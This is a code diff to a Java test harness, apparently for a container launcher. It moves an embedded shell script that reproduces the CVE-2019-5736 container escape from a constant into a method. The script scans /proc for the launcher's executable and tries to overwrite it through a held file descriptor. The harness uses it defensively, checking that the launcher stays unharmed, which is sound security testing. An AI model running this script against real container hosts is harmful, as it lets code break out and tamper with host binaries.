@@ -1,32 +1,12 @@
 package dev.belljar;
 
+import java.nio.file.Path;
 import java.util.List;
 import java.util.stream.Stream;
 
 /** The attacks that need no race: the tree is prepared, then a container is started on it. */
 final class Attacks {
   static final String HARM = "pwned";
-
-  /**
-   * Opens the launcher's program, and writes to it when it has ended. The kernel refuses that as
-   * long as it runs. It touches no other program of the machine, of which the naive launcher passes
-   * through some.
-   */
-  private static final String EXE_SCRIPT =
-      """
-      for scan in 1 2 3 4 5 6 7 8 9 10 11 12 13 14 15 16 17 18 19 20; do
-        for exe in /proc/[0-9]*/exe; do
-          case $(readlink $exe) in
-            %s | /memfd:*) exec 9< $exe && break 2 ;;
-          esac
-        done
-        sleep 0.02
-      done
-      for try in 1 2 3 4 5 6 7 8; do
-        { echo %s > /proc/self/fd/9; } 2> /dev/null && echo overwritten && break
-        sleep 0.1
-      done
-      """;
 
   /**
    * Ways to see what a mount covers, with the capabilities at hand and with those of a new USER.
@@ -145,10 +125,33 @@ final class Attacks {
         Attack.of("the program of the launcher, through /proc", "CVE-2019-5736")
             .prepared(Scene::makeLauncher)
             .wanting(scene ->
-                Wanted.sh(scene, EXE_SCRIPT.formatted(RealTargets.launcher(scene), HARM))
+                Wanted.sh(scene, overwriting(RealTargets.launcher(scene)))
                     .launcher(RealTargets.launcher(scene)))
             .lostWhen((scene, output) ->
                 RealTargets.isLauncherHarmed(scene) || output.contains("overwritten")));
+  }
+
+  /**
+   * Opens the launcher's program, and writes to it when it has ended. The kernel refuses that as
+   * long as it runs. It touches no other program of the machine, of which the naive launcher passes
+   * through some.
+   */
+  private static String overwriting(Path launcher) {
+    return """
+    for scan in 1 2 3 4 5 6 7 8 9 10 11 12 13 14 15 16 17 18 19 20; do
+      for exe in /proc/[0-9]*/exe; do
+        case $(readlink $exe) in
+          %s | /memfd:*) exec 9< $exe && break 2 ;;
+        esac
+      done
+      sleep 0.02
+    done
+    for try in 1 2 3 4 5 6 7 8; do
+      { echo %s > /proc/self/fd/9; } 2> /dev/null && echo overwritten && break
+      sleep 0.1
+    done
+    """
+        .formatted(launcher, HARM);
   }
 
   /** What the kernel shows as files. */
